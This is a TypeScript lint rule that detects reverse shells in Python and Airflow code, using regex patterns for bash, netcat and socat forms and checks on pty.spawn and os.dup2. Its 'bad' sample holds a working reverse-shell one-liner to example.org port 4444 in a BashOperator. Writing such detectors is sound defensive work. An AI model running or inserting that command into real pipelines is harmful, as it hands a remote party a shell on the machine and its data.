import type { CodeValue } from "../../python/code/code-facts.ts";
import { defineRule } from "../define-rule.ts";
import { quoteCode, textsIn } from "./code-values.ts";
import { shellCommands } from "./shell-commands.ts";

/** A program that takes commands, by the end of its path. */
const shellName = /(?:^|\/)(?:ba|da|z|k|c|tc|fi)?sh$/;

const forms = [
  /\b(?:ba|da|z|k)?sh\s+-i\b[^\n]{0,100}(?:\/dev\/(?:tcp|udp)\/|>&)/,
  /\b(?:nc|ncat|netcat)\b[^\n;|]{0,200}\s-{1,2}(?:\w*e|\w*c|exec|sh-exec)[\s=]{1,20}\S{0,100}sh\b/,
  /\bexec\s+\d+<>\s*\/dev\/(?:tcp|udp)\//,
  /\bsocat\b[^\n;|]{0,200}\b(?:exec|system):/i,
];

export const reverseShell = defineRule<{ what: string }>({
  id: "SEC-012",
  name: "reverse-shell",
  severity: "error",
  confidence: "high",
  about: "python",
  reach: "file",
  summary: "A shell is connected with the network.",
  why: "It gives whoever is at the other end a shell on the worker, with its connections and data. No data pipeline needs that.",
  message: ({ what }) => `This connects a shell with the network: ${quoteCode(what)}.`,
  remedy: () => "Remove it; to wait for a server, use a sensor, or `nc -z HOST PORT`.",
  bad: `
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.sdk import DAG

    with DAG("debug", schedule=None):
        BashOperator(task_id="debug", bash_command="bash -i >& /dev/tcp/example.org/4444 0>&1")
  `,
  good: `
    from airflow.providers.standard.operators.bash import BashOperator
    from airflow.sdk import DAG

    with DAG("wait", schedule=None):
        BashOperator(task_id="wait", bash_command="until nc -z db.example.org 5432; do sleep 5; done")
  `,
  check({ code }, report) {
    if (code === null) return;
    for (const { value, span } of shellCommands(code)) {
      const found = [...textsIn(value)].flatMap((text) => forms.map((form) => form.exec(text)?.[0])).find(Boolean);
      if (found !== undefined) report(span, { what: found });
    }
    const usesSockets = code.calls.some(({ paths }) => paths.some((path) => path.startsWith("socket.")));
    for (const { paths, span, arguments: given } of code.calls) {
      const isShell = paths.includes("pty.spawn") && (startsShell(given[0]?.value) || usesSockets);
      const isSocket =
        paths.includes("os.dup2") &&
        given.some(
          ({ value }) => value.kind === "call" && value.paths.some((path) => /^socket\..*\.fileno$/.test(path)),
        );
      if (isShell || isSocket) report(span, { what: isShell ? "pty.spawn" : "os.dup2" });
    }
  },
});

function startsShell(value: CodeValue | undefined): boolean {
  return value !== undefined && [...textsIn(value)].some((text) => shellName.test(text));
}
